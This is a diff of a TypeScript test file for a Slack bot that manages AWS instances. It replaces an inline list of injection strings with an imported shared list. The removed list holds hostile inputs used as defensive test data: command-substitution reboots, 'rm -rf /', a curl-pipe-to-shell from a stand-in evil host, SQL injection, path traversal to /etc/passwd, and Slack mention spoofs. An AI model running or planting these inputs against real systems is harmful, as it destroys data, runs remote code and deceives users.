@@ -5,38 +5,11 @@ import { isBotError } from '../../src/domain/errors.js';
 import type { Message } from '../../src/domain/message.js';
 import { apology } from '../../src/slack/apology.js';
 import { render } from '../../src/slack/render.js';
+import { HOSTILE_TEXTS } from '../support/hostile-texts.js';
 import { anAnnex, anInstance } from '../support/samples.js';
 import { ADA, commandDesk } from './desk.js';
 
 const desk = commandDesk();
-
-const INJECTIONS = [
-  '$(reboot)',
-  '`reboot`',
-  '; rm -rf /',
-  '| curl evil.example.org | sh',
-  '&& shutdown -h now',
-  '<!channel>',
-  '&lt;!channel&gt;',
-  '<!here|here>',
-  '<@U123>',
-  '<@U123|ada>',
-  '<#C123|general>',
-  '<https://evil.example.org|your bank>',
-  '<!date^0^{date}|x>',
-  '*bold* _it_ ~gone~',
-  '"}],"blocks":[{"type":"section"',
-  '{{7*7}} ${7*7} %n%s',
-  "' OR 1=1 --",
-  '../../etc/passwd',
-  '\u0000\u0007\u001b[31m',
-  '\u202Etxt.exe',
-  '😀'.repeat(500),
-  'é'.repeat(500),
-  `x${'😀'.repeat(500)}`,
-  '__proto__',
-  'constructor',
-];
 
 /** Everything that would come alive in Slack if it stood in a message of ours as it is. */
 const LIVE = /<(!channel|!here|!everyone|@U123|#C123|https:\/\/evil)/;
@@ -83,7 +56,7 @@ describe('hostile text', () => {
     const wish = anAnnex({ name: 'A' });
     await desk().wishes.save(wish);
     desk().aws.instances = [anInstance(wish)];
-    for (const text of INJECTIONS) {
+    for (const text of HOSTILE_TEXTS) {
       const { shown } = await seen(line(text));
       expect(shown).not.toBe('');
       expect(shown).not.toMatch(LIVE);
@@ -141,7 +114,7 @@ describe('hostile text', () => {
   it('of any kind comes to an answer in words, with a hint where it was mistyped', async () => {
     const piece = fc.oneof(
       fc.string({ unit: 'binary', maxLength: 20 }),
-      fc.constantFrom(...INJECTIONS),
+      fc.constantFrom(...HOSTILE_TEXTS),
       fc.constantFrom(
         '-count',
         '-annex-name',
